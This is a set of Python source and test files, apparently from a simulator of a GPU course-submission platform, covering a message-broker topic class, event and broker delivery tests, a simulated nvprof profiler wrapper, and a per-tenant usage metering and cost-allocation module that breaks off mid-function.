        if ch is None:
            ch = Channel(self.sim, self, name, max_attempts=self.max_attempts)
            self.channels[name] = ch
            if not self.ephemeral:
                journal = getattr(self.broker, "journal", None)
                if journal is not None:
                    journal.broker_channel(self.name, name)
            if len(self.channels) == 1:
                while self.backlog:
                    ch._put_fast(self.backlog.popleft())
        return ch

    def publish(self, message: Message) -> None:
        # ``_put_fast`` skips the StorePut event the old path allocated and
        # immediately discarded — publish is the broker's hottest entry.
        self.total_published += 1
        if not self.channels:
            self.backlog.append(message)
            return
        for ch in self.channels.values():
            ch._put_fast(message.copy_for_channel())

    @property
    def depth(self) -> int:
        return len(self.backlog) + sum(c.depth for c in self.channels.values())

    def is_garbage(self) -> bool:
        """True when an ephemeral topic can be reaped (paper §V: "both the
        topic and channel are deleted if there are no producers and
        consumers")."""
        if not self.ephemeral:
            return False
        if self.producer_count > 0:
            return False
        if any(c.subscriber_count > 0 for c in self.channels.values()):
            return False
        return True

    def _maybe_reap(self) -> None:
        if self.is_garbage() and self._on_empty is not None:
            self._on_empty(self)

    def stats(self) -> dict:
        return {
            "name": self.name,
            "ephemeral": self.ephemeral,
            "published": self.total_published,
            "depth": self.depth,
            "channels": {n: c.stats() for n, c in self.channels.items()},
        }
