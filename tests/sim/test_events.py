"""Unit tests for event primitives."""

import pytest

from repro.errors import SimulationError
from repro.sim import AllOf, AnyOf, Event, Simulator, Timeout


class TestEvent:
    def test_starts_untriggered(self, sim):
        evt = sim.event()
        assert not evt.triggered
        assert not evt.processed

    def test_value_before_trigger_raises(self, sim):
        with pytest.raises(SimulationError):
            sim.event().value

    def test_ok_before_trigger_raises(self, sim):
        with pytest.raises(SimulationError):
            sim.event().ok

    def test_succeed_sets_value(self, sim):
        evt = sim.event().succeed(42)
        assert evt.triggered
        assert evt.ok
        assert evt.value == 42

    def test_double_succeed_raises(self, sim):
        evt = sim.event().succeed()
        with pytest.raises(SimulationError):
            evt.succeed()

    def test_fail_requires_exception(self, sim):
        with pytest.raises(TypeError):
            sim.event().fail("not an exception")

    def test_fail_carries_exception(self, sim):
        exc = ValueError("boom")
        evt = sim.event().fail(exc)
        assert evt.triggered
        assert not evt.ok
        assert evt.value is exc

    def test_unhandled_failure_propagates_from_run(self, sim):
        evt = sim.event()
        evt.fail(RuntimeError("lost"))
        with pytest.raises(RuntimeError, match="lost"):
            sim.run()

    def test_defused_failure_does_not_propagate(self, sim):
        evt = sim.event()
        evt.fail(RuntimeError("handled"))
        evt.defused()
        sim.run()  # no raise

    def test_callbacks_run_on_processing(self, sim):
        seen = []
        evt = sim.event()
        evt.callbacks.append(lambda e: seen.append(e.value))
        evt.succeed("hello")
        sim.run()
        assert seen == ["hello"]
        assert evt.processed


class TestTimeout:
    def test_fires_at_delay(self, sim):
        t = sim.timeout(5.0, value="done")
        assert sim.run(until=t) == "done"
        assert sim.now == 5.0

    def test_negative_delay_rejected(self, sim):
        with pytest.raises(ValueError):
            sim.timeout(-1)

    def test_zero_delay_fires_immediately(self, sim):
        t = sim.timeout(0)
        sim.run(until=t)
        assert sim.now == 0.0

    def test_ordering_is_deterministic(self, sim):
        order = []
        for tag in ("a", "b", "c"):
            evt = sim.timeout(1.0)
            evt.callbacks.append(lambda e, tag=tag: order.append(tag))
        sim.run()
        assert order == ["a", "b", "c"]  # FIFO among same-time events


class TestConditions:
    def test_all_of_waits_for_all(self, sim):
        t1, t2 = sim.timeout(1, "x"), sim.timeout(3, "y")
        cond = sim.all_of([t1, t2])
        sim.run(until=cond)
        assert sim.now == 3.0
        assert list(cond.value.values()) == ["x", "y"]

    def test_any_of_fires_on_first(self, sim):
        t1, t2 = sim.timeout(1, "x"), sim.timeout(3, "y")
        cond = sim.any_of([t1, t2])
        value = sim.run(until=cond)
        assert sim.now == 1.0
        assert value == {t1: "x"}

    def test_empty_all_of_fires_immediately(self, sim):
        cond = AllOf(sim, [])
        assert cond.triggered

    def test_empty_any_of_fires_immediately(self, sim):
        cond = AnyOf(sim, [])
        assert cond.triggered

    def test_condition_failure_propagates(self, sim):
        evt = sim.event()
        cond = sim.all_of([evt, sim.timeout(10)])

        def proc(sim):
            with pytest.raises(ValueError):
                yield cond
            return "caught"

        p = sim.process(proc(sim))
        evt.fail(ValueError("inner"))
        assert sim.run(until=p) == "caught"

    def test_cross_simulator_condition_rejected(self, sim):
        other = Simulator()
        with pytest.raises(SimulationError):
            sim.all_of([other.timeout(1)])

    def test_already_processed_events_counted(self, sim):
        t1 = sim.timeout(1, "early")
        sim.run(until=t1)
        cond = sim.all_of([t1, sim.timeout(1, "late")])
        sim.run(until=cond)
        assert sim.now == 2.0
