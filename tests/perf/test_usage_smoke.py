"""Tier-1 guard for the metering acceptance bar: usage metering adds
< 5% CPU overhead to the medium hotpath workload versus metering
disabled.  Metering is on by default, so this is the cost every
deployment pays — the meter must stay a handful of dict adds per job.
"""

import time

import pytest

from repro.core.config import SystemConfig
from repro.workload.hotpath import DEFAULT_SCALES, run_hotpath

pytestmark = [pytest.mark.perf, pytest.mark.usage]

#: The ISSUE pins the bar at the medium tier: 10 students x 6
#: resubmissions on 4 workers — enough jobs that a per-job metering
#: regression is visible over interpreter noise.
MEDIUM_SCALE = next(s for s in DEFAULT_SCALES if s.name == "medium")


def _cpu_seconds(metering_enabled: bool) -> float:
    config = SystemConfig()
    config.usage_metering_enabled = metering_enabled
    start = time.process_time()
    run_hotpath(MEDIUM_SCALE, config=config)
    return time.process_time() - start


def _overhead_ratio() -> float:
    # Same protocol as the build-cache smoke: CPU time not wall clock,
    # interleaved pairs, judged by whichever of two fair estimators is
    # smaller — ratio of sums (averages slow machine drift) and ratio
    # of minimums (quiet-window cost) — since on a loaded box either
    # one alone can be unlucky by more than the whole 5% budget.
    samples = [(_cpu_seconds(True), _cpu_seconds(False))
               for _ in range(4)]
    sum_on = sum(s for s, _ in samples)
    sum_off = sum(s for _, s in samples)
    min_on = min(s for s, _ in samples)
    min_off = min(s for _, s in samples)
    if sum_off <= 0 or min_off <= 0:
        return 1.0
    return min(sum_on / sum_off, min_on / min_off)


def test_metering_overhead_under_five_percent():
    # One warmup pair absorbs allocator/bytecode cold start.  A true
    # regression fails both attempts; a one-off noise spike does not.
    _cpu_seconds(True)
    _cpu_seconds(False)
    ratio = _overhead_ratio()
    if ratio >= 1.05:
        ratio = min(ratio, _overhead_ratio())
    assert ratio < 1.05, (
        f"usage metering overhead {100 * (ratio - 1):.1f}% exceeds "
        "5% budget")


def test_metering_on_changes_no_results():
    on = run_hotpath(MEDIUM_SCALE, config=SystemConfig())
    config_off = SystemConfig()
    config_off.usage_metering_enabled = False
    off = run_hotpath(MEDIUM_SCALE, config=config_off)
    assert on["submissions_completed"] == off["submissions_completed"]
    assert on["latency_s"] == off["latency_s"]
