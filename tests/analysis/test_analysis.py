"""Unit tests for histogram/timeline/report helpers."""

import numpy as np
import pytest

from repro.analysis import (
    ascii_histogram,
    ascii_timeline,
    bin_runtimes,
    format_bytes,
    format_duration,
    hourly_counts,
    peak_hour,
    render_table,
    runtime_histogram,
)

HOUR = 3600.0


class TestHistogram:
    def test_fixed_width_bins(self):
        edges, counts = bin_runtimes([0.05, 0.15, 0.17, 0.45], 0.1)
        assert edges[1] == pytest.approx(0.1)
        assert counts[0] == 1 and counts[1] == 2 and counts[4] == 1

    def test_figure2_style_rows(self):
        rows = runtime_histogram([0.45, 0.41, 0.48, 0.44, 0.49, 1.2], 0.1)
        first = rows[0]
        assert first["lo"] == pytest.approx(0.4)
        assert first["teams"] == 5   # "5 teams between 0.4 and 0.5"

    def test_empty_input(self):
        edges, counts = bin_runtimes([], 0.1)
        assert counts.sum() == 0

    def test_negative_rejected(self):
        with pytest.raises(ValueError):
            bin_runtimes([-1.0])
        with pytest.raises(ValueError):
            bin_runtimes([1.0], bin_width=0)

    def test_ascii_collapses_tail(self):
        text = ascii_histogram([0.3, 0.4, 125.0], collapse_after=2.0)
        assert "slowest 125.0s" in text
        assert text.count("\n") < 30

    def test_ascii_empty(self):
        assert ascii_histogram([]) == "(no data)"


class TestTimeline:
    def test_hourly_counts(self):
        times = [0.5 * HOUR, 0.7 * HOUR, 5 * HOUR]
        starts, counts = hourly_counts(times, 0, 6 * HOUR)
        assert counts[0] == 2 and counts[5] == 1
        assert len(starts) == 6

    def test_peak_hour(self):
        times = [0.5 * HOUR] * 3 + [2.5 * HOUR] * 7
        peak = peak_hour(times, 0, 4 * HOUR)
        assert peak["count"] == 7
        assert peak["start"] == pytest.approx(2 * HOUR)

    def test_invalid_window(self):
        with pytest.raises(ValueError):
            hourly_counts([], 10, 10)

    def test_ascii_one_row_per_day(self):
        times = list(np.linspace(0, 2 * 24 * HOUR - 1, 500))
        text = ascii_timeline(times, 0, 2 * 24 * HOUR)
        assert "day  0" in text and "day  1" in text
        assert "total: 500" in text


class TestReport:
    def test_render_table_aligns(self):
        text = render_table(["a", "bb"], [[1, 2], [333, 4]], title="T")
        lines = text.splitlines()
        assert lines[0] == "T"
        assert "333" in text

    def test_format_bytes(self):
        assert format_bytes(512) == "512 B"
        assert format_bytes(100 * 1024 ** 3) == "100.0 GB"

    def test_format_duration(self):
        assert format_duration(0.05) == "50 ms"
        assert format_duration(90) == "90.0 s"
        assert format_duration(1800) == "30.0 min"
        assert format_duration(3 * 86400) == "3.0 days"
