"""Property-based tests for broker delivery invariants."""

from hypothesis import given, settings
from hypothesis import strategies as st

from repro.broker import Consumer, MessageBroker
from repro.sim import Simulator

payloads = st.lists(st.integers(min_value=0, max_value=10**6),
                    min_size=1, max_size=25)


class TestDeliveryInvariants:
    @settings(max_examples=30, deadline=None)
    @given(values=payloads, n_consumers=st.integers(1, 4))
    def test_no_loss_no_duplication_within_channel(self, values,
                                                   n_consumers):
        """Every published message is delivered to exactly one consumer."""
        sim = Simulator()
        broker = MessageBroker(sim)
        consumers = [Consumer(broker, "rai/tasks")
                     for _ in range(n_consumers)]
        received = []

        def drain(sim, consumer):
            while True:
                get_event = consumer.get()
                msg = yield get_event
                received.append(msg.body["v"])
                consumer.ack(msg)
                yield sim.timeout(0.1)

        for consumer in consumers:
            sim.process(drain(sim, consumer))
        for v in values:
            broker.publish("rai", {"v": v})
        sim.run(until=1000.0)
        assert sorted(received) == sorted(values)

    @settings(max_examples=30, deadline=None)
    @given(values=payloads)
    def test_single_consumer_preserves_order(self, values):
        sim = Simulator()
        broker = MessageBroker(sim)
        consumer = Consumer(broker, "rai/tasks")
        received = []

        def drain(sim):
            for _ in range(len(values)):
                msg = yield consumer.get()
                received.append(msg.body["v"])
                consumer.ack(msg)

        proc = sim.process(drain(sim))
        for v in values:
            broker.publish("rai", {"v": v})
        sim.run(until=proc)
        assert received == values

    @settings(max_examples=20, deadline=None)
    @given(values=payloads, n_channels=st.integers(1, 3))
    def test_fanout_every_channel_gets_all(self, values, n_channels):
        sim = Simulator()
        broker = MessageBroker(sim)
        buckets = {i: [] for i in range(n_channels)}
        consumers = [Consumer(broker, f"rai/ch{i}")
                     for i in range(n_channels)]

        def drain(sim, i):
            for _ in range(len(values)):
                msg = yield consumers[i].get()
                buckets[i].append(msg.body["v"])
                consumers[i].ack(msg)

        procs = [sim.process(drain(sim, i)) for i in range(n_channels)]
        for v in values:
            broker.publish("rai", {"v": v})
        sim.run(until=sim.all_of(procs))
        for i in range(n_channels):
            assert buckets[i] == values

    @settings(max_examples=20, deadline=None)
    @given(values=payloads,
           requeue_mask=st.lists(st.booleans(), min_size=1, max_size=25))
    def test_requeued_messages_not_lost(self, values, requeue_mask):
        """ack-or-requeue: everything is eventually acked exactly once."""
        sim = Simulator()
        broker = MessageBroker(sim, default_max_attempts=10)
        consumer = Consumer(broker, "rai/tasks")
        acked = []

        def drain(sim):
            i = 0
            while len(acked) < len(values):
                msg = yield consumer.get()
                should_requeue = (msg.attempts == 1 and
                                  requeue_mask[i % len(requeue_mask)])
                i += 1
                if should_requeue:
                    consumer.requeue(msg)
                else:
                    acked.append(msg.body["v"])
                    consumer.ack(msg)

        proc = sim.process(drain(sim))
        for v in values:
            broker.publish("rai", {"v": v})
        sim.run(until=proc)
        assert sorted(acked) == sorted(values)
        assert consumer.channel.depth == 0
        assert not consumer.channel.in_flight
