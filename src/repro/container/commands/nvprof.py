"""``nvprof``: the CUDA profiler wrapper (Listing 1 lines 10-11).

``nvprof --export-profile timeline.nvprof ./ece408 ...`` runs the program
and writes a kernel timeline file into the working directory; because
``/build`` is uploaded to the file server after the job, "students can
access the timeline.nvprof file and view it using the nvvp viewer" (§V).
"""

from __future__ import annotations

import json
from typing import List

from repro.container.commands import register_command
from repro.container.commands.base import GuestCommand
from repro.gpu.kernels import kernel_timeline
from repro.vfs.path import join as path_join

PROFILER_OVERHEAD_FACTOR = 1.15  # instrumented runs are a little slower


class Nvprof(GuestCommand):
    name = "nvprof"

    def run(self, ctx, args: List[str]) -> int:
        export_path = None
        inner: List[str] = []
        i = 0
        while i < len(args):
            arg = args[i]
            if arg == "--export-profile":
                if i + 1 >= len(args):
                    ctx.write_err("nvprof: --export-profile needs a file\n")
                    return 1
                export_path = args[i + 1]
                i += 2
                continue
            if arg.startswith("--export-profile="):
                export_path = arg.split("=", 1)[1]
                i += 1
                continue
            if arg.startswith("--"):
                i += 1  # ignore other nvprof flags
                continue
            inner = args[i:]
            break
        if not inner:
            ctx.write_err("nvprof: no command to profile\n")
            return 1
        if ctx.gpu is None:
            ctx.write_err("nvprof: unable to locate a CUDA device\n")
            return 1

        ctx.write_err(f"==42== NVPROF is profiling process 42, "
                      f"command: {' '.join(inner)}\n")
        before = ctx.container._context.charged_seconds
        exit_code = ctx.container._shell._dispatch(ctx, inner[0], inner[1:])
        wall = ctx.container._context.charged_seconds - before
        ctx.charge(wall * (PROFILER_OVERHEAD_FACTOR - 1.0))

        # Reconstruct the per-kernel timeline from the built binary's
        # profile (the same information nvprof would observe).
        quality, batch = self._job_parameters(ctx, inner)
        rows = kernel_timeline(ctx.gpu, batch, quality)
        if export_path is not None:
            target = path_join(ctx.cwd, export_path)
            ctx.fs.write_file(target, json.dumps(
                {"kernels": rows, "wall": wall}, indent=1))
            ctx.write_err(f"==42== Generated result file: {target}\n")
        else:
            ctx.write_err("==42== Profiling result:\n")
            ctx.write_err(f"{'Time(%)':>8} {'Time':>12} Name\n")
            total = sum(r["duration"] for r in rows) or 1.0
            for row in rows:
                ctx.write_err(
                    f"{100 * row['duration'] / total:7.2f}% "
                    f"{row['duration'] * 1e3:10.3f}ms {row['name']}\n")
        return exit_code

    @staticmethod
    def _job_parameters(ctx, inner: List[str]):
        """Recover (quality, batch) for timeline reconstruction."""
        quality = 0.0
        path = path_join(ctx.cwd, inner[0])
        if ctx.fs.isfile(path):
            data = ctx.fs.read_file(path)
            if data.startswith(b"#!rai-exec"):
                _, _, payload = data.partition(b"\n")
                try:
                    quality = float(json.loads(payload or b"{}")
                                    .get("quality", 0.0))
                except (json.JSONDecodeError, TypeError, ValueError):
                    quality = 0.0
        batch = 10
        for arg in inner[1:]:
            name = arg.rsplit("/", 1)[-1]
            if "full" in name:
                from repro.gpu.kernels import FULL_DATASET_SIZE
                batch = FULL_DATASET_SIZE
        return quality, batch


register_command(Nvprof())
