"""Per-tenant usage metering and cost attribution.

The paper's §VII argument is economic: the course stayed inside an AWS
budget by provisioning elastically.  Fleet-level accounting
(:class:`repro.cluster.CostReport`) can say what the semester cost, but
not *who* consumed it.  This module closes that gap with two layers:

:class:`UsageMeter`
    A write-optimised ledger of typed usage records.  Every layer that
    consumes a billable resource — worker command execution, warm-pool
    slot occupancy, storage puts/uploads/downloads, docdb operations,
    broker messages — calls :meth:`UsageMeter.record` (or the per-job
    aggregate :meth:`UsageMeter.record_job`) with the owning tenant.
    Attribution rides the job document (``job.team``/``job.username``)
    and ``TraceContext`` headers, NOT the worker or partition doing the
    work, so a job stolen across shards or redelivered after a crash
    still bills the originating team.  Records roll up three ways:
    cumulative totals, per-tenant totals, and per-billing-window
    buckets used by the allocator below.

:class:`CostAllocator`
    Prices the meter.  Per billing window it takes the fleet cost the
    attached :class:`repro.cluster.Provisioner`\\ s accrued in that
    window and splits it: the share matching measured utilisation
    (busy container-seconds / provisioned slot-seconds) is apportioned
    to tenants by their container-seconds share; everything else —
    idle capacity plus unattributed work — is reported explicitly as
    idle/overhead cost.  Idle is computed as the *residual*
    ``window_cost - sum(tenant costs)``, so the conservation invariant

        attributed + idle == fleet total

    holds exactly by construction, at any instant (partial windows are
    previewed with the same arithmetic) and across snapshot/restore.

Dedup and buildcache savings are credited as their own resources
(``storage_bytes_saved_dedup``, ``build_seconds_saved``) rather than
silently shrinking the billed numbers: a team sees both what it
consumed and what the platform's caches saved it.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable, Dict, List, Optional

from repro.obs.events import EventType

#: Every resource the meter understands.  Amounts are floats; byte
#: resources count logical bytes, ``*_saved_*`` resources are credits.
USAGE_RESOURCES = (
    "container_seconds",        # container busy time executing commands
    "gpu_seconds",              # subset of the above on a GPU worker
    "slot_seconds",             # worker slot occupancy (queue->done)
    "warm_slot_seconds",        # warm-pool idle time consumed/evicted
    "storage_bytes_uploaded",   # wire bytes client -> object store
    "storage_bytes_downloaded", # wire bytes object store -> worker
    "storage_bytes_stored",     # logical bytes written to buckets
    "storage_bytes_saved_dedup",  # bytes chunk-dedup kept off wire/disk
    "build_seconds_saved",      # build time the buildcache replayed away
    "docdb_ops",                # document reads/writes/scans
    "broker_messages",          # messages published on any topic
)

#: Tenant bucket for usage with no owning team/username (pool evictions,
#: system log traffic, control-plane docdb ops).  Its cost lands in the
#: idle/overhead slice, never on a team.
UNATTRIBUTED = "(unattributed)"


@dataclass
class UsageRecord:
    """One typed, attributed usage sample (the meter's unit of entry)."""

    resource: str
    amount: float
    tenant: str
    course: str
    at: float
    job_id: Optional[str] = None
    trace_id: Optional[str] = None


@dataclass
class JobExemplar:
    """Rolled-up usage for one job, kept for `rai cost` trace exemplars."""

    job_id: str
    tenant: str
    trace_id: Optional[str]
    container_seconds: float = 0.0
    gpu_seconds: float = 0.0


class UsageMeter:
    """Accumulates attributed usage; cheap enough for every hot path.

    ``record`` is called from broker publish and docdb scans, so it does
    no allocation beyond dict entries and short-circuits entirely when
    metering is disabled.
    """

    def __init__(self, clock: Callable[[], float], course: str = "ece408",
                 window_seconds: float = 3600.0, enabled: bool = True,
                 max_jobs: int = 256):
        self.clock = clock
        self.course = course
        self.window_seconds = float(window_seconds)
        self.enabled = enabled
        self.max_jobs = max_jobs
        #: resource -> cumulative amount
        self.totals: Dict[str, float] = {}
        #: tenant -> resource -> cumulative amount
        self.tenants: Dict[str, Dict[str, float]] = {}
        #: window index -> tenant -> resource -> amount
        self.windows: Dict[int, Dict[str, Dict[str, float]]] = {}
        #: job_id -> JobExemplar (bounded; evicts the cheapest job)
        self.jobs: Dict[str, JobExemplar] = {}
        self.total_records = 0

    # -- recording ----------------------------------------------------------

    def record(self, resource: str, amount: float,
               tenant: Optional[str] = None,
               at: Optional[float] = None) -> None:
        """Meter ``amount`` of ``resource`` against ``tenant`` (or overhead)."""
        if not self.enabled or amount == 0:
            return
        if at is None:
            at = self.clock()
        if not tenant:
            tenant = UNATTRIBUTED
        self.total_records += 1
        self.totals[resource] = self.totals.get(resource, 0.0) + amount
        per_tenant = self.tenants.get(tenant)
        if per_tenant is None:
            per_tenant = self.tenants[tenant] = {}
        per_tenant[resource] = per_tenant.get(resource, 0.0) + amount
        window = self.windows.setdefault(int(at // self.window_seconds), {})
        bucket = window.get(tenant)
        if bucket is None:
            bucket = window[tenant] = {}
        bucket[resource] = bucket.get(resource, 0.0) + amount

    def record_job(self, tenant: Optional[str], job_id: Optional[str] = None,
                   trace_id: Optional[str] = None,
                   container_seconds: float = 0.0, gpu_seconds: float = 0.0,
                   slot_seconds: float = 0.0, bytes_downloaded: float = 0.0,
                   bytes_uploaded: float = 0.0,
                   build_seconds_saved: float = 0.0,
                   at: Optional[float] = None) -> None:
        """One aggregated entry per completed job (the worker's hook).

        A single call per job keeps metering off the per-command hot
        path; attribution comes from the job document so it survives
        redelivery and cross-shard stealing.
        """
        if not self.enabled:
            return
        if at is None:
            at = self.clock()
        for resource, amount in (
                ("container_seconds", container_seconds),
                ("gpu_seconds", gpu_seconds),
                ("slot_seconds", slot_seconds),
                ("storage_bytes_downloaded", bytes_downloaded),
                ("storage_bytes_uploaded", bytes_uploaded),
                ("build_seconds_saved", build_seconds_saved)):
            if amount:
                self.record(resource, amount, tenant=tenant, at=at)
        if job_id is not None and container_seconds > 0:
            self._note_job(job_id, tenant or UNATTRIBUTED, trace_id,
                           container_seconds, gpu_seconds)

    def _note_job(self, job_id: str, tenant: str, trace_id: Optional[str],
                  container_seconds: float, gpu_seconds: float) -> None:
        exemplar = self.jobs.get(job_id)
        if exemplar is not None:
            exemplar.container_seconds += container_seconds
            exemplar.gpu_seconds += gpu_seconds
            return
        if len(self.jobs) >= self.max_jobs:
            cheapest = min(self.jobs.values(),
                           key=lambda j: j.container_seconds)
            if cheapest.container_seconds >= container_seconds:
                return
            del self.jobs[cheapest.job_id]
        self.jobs[job_id] = JobExemplar(job_id, tenant, trace_id,
                                        container_seconds, gpu_seconds)

    # -- reading ------------------------------------------------------------

    def tenant_count(self) -> int:
        return sum(1 for t in self.tenants if t != UNATTRIBUTED)

    def tenant_total(self, tenant: str, resource: str) -> float:
        return self.tenants.get(tenant, {}).get(resource, 0.0)

    def window(self, index: int) -> Dict[str, Dict[str, float]]:
        return self.windows.get(index, {})

    def usage_since_window(self, first_index: int) -> Dict[str, Dict[str, float]]:
        """Merge all window buckets with index >= ``first_index``."""
        merged: Dict[str, Dict[str, float]] = {}
        for index, window in self.windows.items():
            if index < first_index:
                continue
            for tenant, bucket in window.items():
                out = merged.setdefault(tenant, {})
                for resource, amount in bucket.items():
                    out[resource] = out.get(resource, 0.0) + amount
        return merged

    def top_jobs(self, n: int = 5) -> List[JobExemplar]:
        return sorted(self.jobs.values(),
                      key=lambda j: -j.container_seconds)[:n]

    def stats(self) -> dict:
        return {
            "course": self.course,
            "enabled": self.enabled,
            "tenants": self.tenant_count(),
            "records": self.total_records,
            "container_seconds": round(
                self.totals.get("container_seconds", 0.0), 3),
            "gpu_seconds": round(self.totals.get("gpu_seconds", 0.0), 3),
        }

    # -- durability ---------------------------------------------------------

    def to_snapshot(self) -> dict:
        return {
            "course": self.course,
            "window_seconds": self.window_seconds,
            "totals": dict(self.totals),
            "tenants": {t: dict(r) for t, r in self.tenants.items()},
            "windows": {str(k): {t: dict(r) for t, r in w.items()}
                        for k, w in self.windows.items()},
            "jobs": [{"job_id": j.job_id, "tenant": j.tenant,
                      "trace_id": j.trace_id,
                      "container_seconds": j.container_seconds,
                      "gpu_seconds": j.gpu_seconds}
                     for j in self.jobs.values()],
            "total_records": self.total_records,
        }

    def install_snapshot(self, snap: dict) -> int:
        self.course = snap["course"]
        self.window_seconds = snap["window_seconds"]
        self.totals = dict(snap["totals"])
        self.tenants = {t: dict(r) for t, r in snap["tenants"].items()}
        self.windows = {int(k): {t: dict(r) for t, r in w.items()}
                        for k, w in snap["windows"].items()}
        self.jobs = {j["job_id"]: JobExemplar(
            j["job_id"], j["tenant"], j["trace_id"],
            j["container_seconds"], j["gpu_seconds"])
            for j in snap["jobs"]}
        self.total_records = snap["total_records"]
        return len(self.tenants)


@dataclass
class CostWindow:
    """The priced outcome of one closed billing window."""

    index: int
    start: float
    end: float
    fleet_cost: float
    attributed_cost: float
    idle_cost: float
    utilization: float
    tenant_costs: Dict[str, float] = field(default_factory=dict)


class CostAllocator:
    """Apportions provisioner fleet cost to tenants by metered usage.

    Books are settled per billing window: closing window ``k`` prices
    the fleet cost accrued in ``[k*w, (k+1)*w)`` against the meter's
    bucket for that window.  :meth:`preview` extends the settled books
    with the not-yet-closed span using identical arithmetic, so the
    conservation invariant holds at any instant, not just on window
    boundaries.
    """

    def __init__(self, meter: UsageMeter, clock: Callable[[], float],
                 window_seconds: float = 3600.0,
                 budget_window_seconds: float = 7 * 24 * 3600.0,
                 metrics=None, events=None):
        self.meter = meter
        self.clock = clock
        self.window_seconds = float(window_seconds)
        self.budget_window_seconds = float(budget_window_seconds)
        self.metrics = metrics
        self.events = events
        self.providers: List[object] = []
        #: provider id -> fleet cost already settled into the books
        self._provider_base: Dict[int, float] = {}
        #: open-span cost carried over a restore: pre-crash providers
        #: died with the old process, but the cost they accrued past the
        #: last settled window edge is frozen here and settles with the
        #: next window close, so conservation spans the crash.
        self._carry_open = 0.0
        # settled books (closed windows only; conservation-exact)
        self.attributed: Dict[str, float] = {}
        self.idle_cost = 0.0
        self.fleet_cost = 0.0
        self.windows_closed = 0
        self.next_window = 0
        self.closed: List[CostWindow] = []
        # per-tenant budgets and the burn bookkeeping behind the SLOs
        self.budgets: Dict[str, float] = {}
        self.budget_period = 0
        self._period_base: Dict[str, float] = {}

    # -- wiring -------------------------------------------------------------

    def attach_provisioner(self, provisioner) -> None:
        self.providers.append(provisioner)
        self._provider_base[id(provisioner)] = 0.0

    def set_budget(self, team: str, usd: float) -> None:
        if usd <= 0:
            raise ValueError(f"budget must be positive, got {usd}")
        self.budgets[team] = usd
        if self.metrics is not None:
            # A labelled *set* gauge: the scrape loop skips labelled
            # callback gauges, so burn must be pushed, not pulled.
            self.metrics.gauge("usage_budget_burn", team=team).set(
                self.budget_burn(team))

    # -- the allocation arithmetic ------------------------------------------

    def _fleet_delta(self, until: float, settle: bool) -> float:
        """Fleet cost accrued since the books' edge, optionally settling."""
        delta = self._carry_open
        for provider in self.providers:
            cost = provider.total_cost(until)
            delta += cost - self._provider_base[id(provider)]
            if settle:
                self._provider_base[id(provider)] = cost
        if settle:
            self._carry_open = 0.0
        return delta

    def _capacity_slot_seconds(self, start: float, end: float) -> float:
        total = 0.0
        for provider in self.providers:
            total += provider.capacity_slot_seconds(start, end)
        return total

    def _allocate(self, usage: Dict[str, Dict[str, float]],
                  fleet_cost: float, start: float,
                  end: float) -> tuple:
        """Split ``fleet_cost`` by usage share; idle is the exact residual."""
        busy = sum(bucket.get("container_seconds", 0.0)
                   for bucket in usage.values())
        capacity = self._capacity_slot_seconds(start, end)
        if capacity > 0:
            utilization = min(1.0, busy / capacity)
        else:
            utilization = 1.0 if busy > 0 else 0.0
        tenant_costs: Dict[str, float] = {}
        if busy > 0 and fleet_cost > 0:
            pool = fleet_cost * utilization
            for tenant, bucket in usage.items():
                if tenant == UNATTRIBUTED:
                    continue  # overhead work stays in the idle slice
                seconds = bucket.get("container_seconds", 0.0)
                if seconds > 0:
                    tenant_costs[tenant] = pool * (seconds / busy)
        idle = fleet_cost - sum(tenant_costs.values())
        return tenant_costs, idle, utilization

    def _close_window(self, index: int) -> CostWindow:
        start = index * self.window_seconds
        end = start + self.window_seconds
        fleet = self._fleet_delta(end, settle=True)
        usage = self.meter.window(index)
        tenant_costs, idle, utilization = self._allocate(
            usage, fleet, start, end)
        for tenant, cost in tenant_costs.items():
            self.attributed[tenant] = self.attributed.get(tenant, 0.0) + cost
        self.idle_cost += idle
        self.fleet_cost += fleet
        self.windows_closed += 1
        window = CostWindow(index, start, end, fleet,
                            sum(tenant_costs.values()), idle, utilization,
                            tenant_costs)
        self.closed.append(window)
        if self.events is not None:
            for tenant, bucket in usage.items():
                self.events.emit(
                    EventType.USAGE_SAMPLE, at=end, team=tenant,
                    course=self.meter.course, window=index,
                    container_seconds=round(
                        bucket.get("container_seconds", 0.0), 6),
                    gpu_seconds=round(bucket.get("gpu_seconds", 0.0), 6),
                    cost_usd=round(tenant_costs.get(tenant, 0.0), 6))
            self.events.emit(
                EventType.COST_WINDOW, at=end, window=index,
                fleet_cost_usd=round(fleet, 6),
                attributed_cost_usd=round(window.attributed_cost, 6),
                idle_cost_usd=round(idle, 6),
                utilization=round(utilization, 4),
                tenants=len(tenant_costs))
        return window

    # -- public surface -----------------------------------------------------

    def refresh(self, now: Optional[float] = None) -> None:
        """Close every complete window and push the per-team gauges."""
        if now is None:
            now = self.clock()
        last = int(now // self.window_seconds)
        while self.next_window < last:
            self._close_window(self.next_window)
            self.next_window += 1
        self._roll_budget_period(now)
        self._update_gauges(now)

    def preview(self, now: Optional[float] = None) -> dict:
        """Settled books plus the open span, conservation-exact at ``now``."""
        if now is None:
            now = self.clock()
        fleet_open = self._fleet_delta(now, settle=False)
        usage = self.meter.usage_since_window(self.next_window)
        start = self.next_window * self.window_seconds
        tenant_costs, idle_open, utilization = self._allocate(
            usage, fleet_open, start, max(now, start))
        attributed = dict(self.attributed)
        for tenant, cost in tenant_costs.items():
            attributed[tenant] = attributed.get(tenant, 0.0) + cost
        return {
            "at": now,
            "fleet_cost": self.fleet_cost + fleet_open,
            "attributed": attributed,
            "attributed_total": sum(attributed.values()),
            "idle_cost": self.idle_cost + idle_open,
            "open_utilization": utilization,
            "windows_closed": self.windows_closed,
        }

    def report(self, now: Optional[float] = None) -> dict:
        """The `rai cost` payload: ranked tenants, conservation, budgets."""
        if now is None:
            now = self.clock()
        view = self.preview(now)
        tenants = []
        attributed = view["attributed"]
        fleet = view["fleet_cost"]
        for tenant, resources in self.meter.tenants.items():
            if tenant == UNATTRIBUTED:
                continue
            cost = attributed.get(tenant, 0.0)
            tenants.append({
                "team": tenant,
                "container_seconds": resources.get("container_seconds", 0.0),
                "gpu_seconds": resources.get("gpu_seconds", 0.0),
                "cost_usd": cost,
                "share": cost / fleet if fleet > 0 else 0.0,
                "budget_usd": self.budgets.get(tenant),
                "budget_burn": (self.budget_burn(tenant, view=view)
                                if tenant in self.budgets else None),
            })
        tenants.sort(key=lambda t: (-t["cost_usd"], -t["container_seconds"],
                                    t["team"]))
        return {
            "at": now,
            "course": self.meter.course,
            "tenants": tenants,
            "fleet_cost": fleet,
